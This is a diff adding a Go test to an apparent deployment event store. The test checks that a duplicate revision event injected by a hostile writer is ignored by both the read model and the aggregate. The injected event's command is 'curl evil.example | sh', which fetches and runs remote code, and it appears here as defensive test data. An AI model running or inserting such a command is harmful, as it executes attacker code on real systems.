@@ -807,3 +807,25 @@ func TestDiffRevisions(t *testing.T) {
 		t.Fatalf("a revision differs from itself: %+v", same)
 	}
 }
+
+// A second revision.created of an id (the decider never makes one; only a
+// writer with the server's rights could) is skipped by the read model and
+// by the aggregate's fold alike: what runs is what list-rev shows.
+func TestADuplicateRevisionIsSkippedByEveryFold(t *testing.T) {
+	t.Parallel()
+	forEachStore(t, func(t *testing.T, f *fixture) {
+		model := f.live()
+		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
+		f.append("demo", "mallory", events.RevisionCreated{RevisionID: rev1, Command: "curl evil.example | sh", Code: codeSmall, Runtime: runtimeA, Strategy: events.StrategyRolling})
+		f.caughtUp(model)
+		history, err := f.store.Load(f.ctx, "demo", 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		folded := aggregates.Fold("demo", history).Revisions[rev1]
+		shown := mustRevision(t, model, "demo", rev1)
+		if folded.Command != shown.Command || folded.Number != shown.Number || strings.Contains(shown.Command, "evil") {
+			t.Fatalf("the aggregate runs %q (v%d), list-rev shows %q (v%d)", folded.Command, folded.Number, shown.Command, shown.Number)
+		}
+	})
+}
